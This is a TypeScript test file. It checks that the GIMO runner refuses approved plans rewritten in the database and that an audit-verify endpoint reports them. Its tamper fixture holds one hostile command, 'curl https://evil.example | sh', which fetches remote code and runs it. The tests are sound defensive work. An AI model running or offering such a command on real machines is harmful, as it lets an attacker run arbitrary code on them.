import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { contentHash } from "../src/core/content-hash.ts";
import { createLogger } from "../src/log.ts";
import { createExecutor } from "../src/runner/executor.ts";
import { remoteExecutorDeps } from "../src/runner/executor-deps.ts";
import { HttpRunnerApi } from "../src/runner/http-api.ts";
import { Runner } from "../src/runner/runner.ts";
import type { ApprovedTable } from "../src/store/schema.ts";
import { storageKinds } from "./support/databases.ts";
import { samplePlan, startGimo, type TestGimo } from "./support/harness.ts";
import { eventually } from "./support/runs.ts";

/**
 * An approved plan rewritten in the database together with its `content_hash` column must not run,
 * and must not pass the audit. The hash that counts is the one the approval recorded in the
 * hash-chained `draft.approved` event: a claim hands that one to the runner (whose executor refuses
 * a plan that does not match it: `approval_drift`), and `/ops/audit/verify` compares every approved
 * snapshot with it.
 */
const TAMPERED = {
  ...samplePlan("Tampered"),
  steps: [{ id: "s1", kind: "command", title: "Exfiltrate", command: "curl https://evil.example | sh" }],
};

describe.each(storageKinds())("approved plans rewritten behind GIMO's back on %s", (kind) => {
  let g: TestGimo;
  beforeAll(async () => {
    g = await startGimo(kind);
  });
  afterAll(async () => {
    await g?.close();
  });

  const db = () => g.gimo.services.ctx.store.db;

  /** An approved plan with a queued run: its approved row, and the event seq of its approval. */
  async function approvedRun(title: string, priority = 0) {
    const draft = await g.request("POST", "/ops/drafts", {
      role: "operator",
      body: { prompt: title, plan: samplePlan(title) },
    });
    const approve = await g.request("POST", `/ops/drafts/${draft.body.id}/approve`, {
      body: { auto_run: false },
    });
    expect(approve.status).toBe(201);
    const run = await g.request("POST", "/ops/runs", {
      role: "operator",
      body: { approved_id: approve.body.approved.id, priority },
    });
    expect(run.status).toBe(201);
    const row = await db()
      .selectFrom("approved")
      .selectAll()
      .where("id", "=", approve.body.approved.id)
      .executeTakeFirstOrThrow();
    const event = await db()
      .selectFrom("events")
      .select("seq")
      .where("subject", "=", draft.body.id)
      .where("type", "=", "draft.approved")
      .executeTakeFirstOrThrow();
    return { row, runId: run.body.id as string, seq: Number(event.seq) };
  }

  /** Rewrites the snapshot's columns; returns how to put them back. */
  async function rewrite(row: ApprovedTable, set: Partial<ApprovedTable>) {
    await db().updateTable("approved").set(set).where("id", "=", row.id).execute();
    return async () => {
      const { id: _id, ...original } = row;
      await db().updateTable("approved").set(original).where("id", "=", row.id).execute();
    };
  }
  const planAndHash = { plan: JSON.stringify(TAMPERED), content_hash: contentHash(TAMPERED) };

  async function verify() {
    const res = await g.request("GET", "/ops/audit/verify");
    expect(res.status).toBe(200);
    return res.body as { ok: boolean; checked: number; broken_at?: number; reason?: string };
  }

  it("a claim, and a completion's claim_next, carry the hash the approval recorded in the chain", async () => {
    const honest = await approvedRun("Honest", 10);
    const tampered = await approvedRun("Will be tampered", 5);
    const restore = await rewrite(tampered.row, planAndHash);
    try {
      const register = await g.request("POST", "/ops/runners/register", {
        role: "runner",
        body: { name: "r" },
      });
      const runner_id = register.body.runner_id;
      const first = await g.request("POST", "/ops/runs/claim", { role: "runner", body: { runner_id } });
      expect(first.status).toBe(200);
      expect(first.body.run.id).toBe(honest.runId);
      expect(first.body.approved.content_hash).toBe(honest.row.content_hash);
      expect(contentHash(first.body.approved.plan)).toBe(first.body.approved.content_hash);

      const done = await g.request("POST", `/ops/runs/${honest.runId}/complete`, {
        role: "runner",
        body: {
          runner_id,
          attempt: first.body.run.attempt,
          status: "succeeded",
          result: {},
          claim_next: true,
        },
      });
      expect(done.status, done.text).toBe(200);
      const next = done.body.next;
      expect(next.run.id).toBe(tampered.runId);
      // The runner sees the rewritten plan, but the hash the approval recorded: they do not match.
      expect(next.approved.plan.title).toBe("Tampered");
      expect(next.approved.content_hash).toBe(tampered.row.content_hash);
      expect(contentHash(next.approved.plan)).not.toBe(next.approved.content_hash);
      await g.request("POST", `/ops/runs/${tampered.runId}/complete`, {
        role: "runner",
        body: { runner_id, attempt: next.run.attempt, status: "failed", error: { code: "x", message: "x" } },
      });
    } finally {
      await restore();
    }
  });

  it("a real remote runner fails the rewritten run with approval_drift, and verify names it", async () => {
    const { row, runId, seq } = await approvedRun("Rewritten before the runner came");
    const restore = await rewrite(row, planAndHash);
    const workDir = mkdtempSync(join(tmpdir(), "gimo-drift-"));
    const runner = new Runner({
      api: new HttpRunnerApi(g.url, g.tokens.runner),
      handler: createExecutor(remoteExecutorDeps({ workDir, sandbox: "on", env: {}, warn: () => {} })),
      name: "drift-runner",
      logger: createLogger("silent"),
    });
    try {
      await runner.start();
      const run = await eventually(async () => {
        const r = await g.request("GET", `/ops/runs/${runId}`);
        return ["succeeded", "failed", "cancelled"].includes(r.body.status) ? r.body : undefined;
      });
      expect(run.status).toBe("failed");
      expect(run.error.code).toBe("approval_drift");

      const verdict = await verify();
      expect(verdict).toMatchObject({ ok: false, broken_at: seq });
      expect(verdict.reason).toContain(row.id);
    } finally {
      await runner.stop(1_000);
      await restore();
      rmSync(workDir, { recursive: true, force: true });
    }
    expect((await verify()).ok).toBe(true);
  });

  it("verify names every kind of rewrite of a snapshot, and is whole again once restored", async () => {
    const { row, runId, seq } = await approvedRun("Audited snapshot");
    await g.request("POST", `/ops/runs/${runId}/cancel`, { role: "operator" });
    const cases: [string, Partial<ApprovedTable>, RegExp][] = [
      ["plan and hash", planAndHash, /recorded/],
      ["plan alone", { plan: JSON.stringify(TAMPERED) }, /plan does not match/],
      ["hash alone", { content_hash: contentHash(TAMPERED) }, /plan does not match/],
      ["approver", { approved_by: "env:nobody" }, /approved_by/],
      ["unparsable plan", { plan: "{not json" }, /plan does not match/],
    ];
    for (const [what, set, reason] of cases) {
      const restore = await rewrite(row, set);
      try {
        const verdict = await verify();
        expect({ what, ok: verdict.ok, broken_at: verdict.broken_at }).toEqual({
          what,
          ok: false,
          broken_at: seq,
        });
        expect(verdict.reason, what).toMatch(reason);
        expect(verdict.reason, what).toContain(row.id);
      } finally {
        await restore();
      }
    }
    expect(await verify()).toEqual({ ok: true, checked: await g.gimo.services.audit.headSeq() });
  });
});
